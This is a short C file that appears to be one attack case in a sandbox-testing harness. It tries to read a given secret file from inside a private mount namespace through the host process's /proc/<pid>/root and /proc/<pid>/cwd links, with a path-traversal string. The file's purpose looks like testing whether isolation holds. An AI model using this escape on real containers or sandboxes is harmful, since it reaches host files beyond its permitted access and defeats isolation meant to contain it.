/*
 * fs_proc_host_root — reads the secret through the host's own /proc links:
 * /proc/<host_pid>/root and /proc/<host_pid>/cwd. Even a plugin locked into a
 * private mount namespace reaches the host's file system this way if it can see
 * the host's /proc entry.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    char path[8192];
    long host = atk_param_long(in, "host_pid", -1);
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret) || host <= 0) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    snprintf(path, sizeof path, "/proc/%ld/root%s", host, secret);
    found |= atk_cat(out, "secret via host root", path);
    snprintf(path, sizeof path,
             "/proc/%ld/cwd/../../../../../../../../../../../../../../../..%s", host, secret);
    found |= atk_cat(out, "secret via host cwd", path);
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
